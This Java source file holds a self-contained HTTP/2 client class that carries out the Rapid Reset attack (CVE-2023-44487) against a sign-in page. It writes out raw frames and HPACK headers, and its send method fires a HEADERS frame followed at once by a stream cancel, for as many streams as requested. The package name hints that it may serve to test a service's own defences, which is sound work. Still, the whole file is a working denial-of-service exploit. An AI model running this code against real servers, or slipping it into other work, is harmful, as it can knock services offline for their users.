package lu.airsilk.guard;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.util.Map;

/**
 * A stranger with one line of HTTP/2 who asks for pages and forgets each at once (CVE-2023-44487). Just as much of the
 * protocol as that takes: RFC 9113 for frames, RFC 7541 for headers, each written out.
 */
final class ForgottenRequests implements AutoCloseable {

    private static final int HEADERS = 1;
    private static final int RESET = 3;
    private static final int SETTINGS = 4;
    private static final int END_OF_STREAM_AND_HEADERS = 5;
    private static final byte[] CANCEL = {0, 0, 0, 8};

    private final Socket line;
    private final byte[] asked;
    private int stream = -1;

    ForgottenRequests(URI portal) throws IOException {
        line = new Socket(portal.getHost(), portal.getPort());
        asked = headers(Map.of(
                ":method", "GET",
                ":scheme", "http",
                ":path", "/identity/sign-in.xhtml",
                ":authority", portal.getAuthority()));
        line.getOutputStream().write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(US_ASCII));
        line.getOutputStream().write(frame(SETTINGS, 0, 0, new byte[0]));
    }

    void send(int many) throws IOException {
        var all = new ByteArrayOutputStream();
        for (int i = 0; i < many; i++) {
            stream += 2;
            all.writeBytes(frame(HEADERS, END_OF_STREAM_AND_HEADERS, stream, asked));
            all.writeBytes(frame(RESET, 0, stream, CANCEL));
        }
        OutputStream out = line.getOutputStream();
        all.writeTo(out);
        out.flush();
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        var frame = new ByteArrayOutputStream();
        frame.writeBytes(
                new byte[] {0, (byte) (payload.length >> 8), (byte) payload.length, (byte) type, (byte) flags});
        frame.writeBytes(new byte[] {0, (byte) (stream >> 16), (byte) (stream >> 8), (byte) stream});
        frame.writeBytes(payload);
        return frame.toByteArray();
    }

    /** Each as a literal that no table keeps; all of them are short. */
    private static byte[] headers(Map<String, String> all) {
        var block = new ByteArrayOutputStream();
        all.forEach((name, value) -> {
            block.write(0);
            block.write(name.length());
            block.writeBytes(name.getBytes(US_ASCII));
            block.write(value.length());
            block.writeBytes(value.getBytes(US_ASCII));
        });
        return block.toByteArray();
    }

    @Override
    public void close() throws IOException {
        line.close();
    }
}
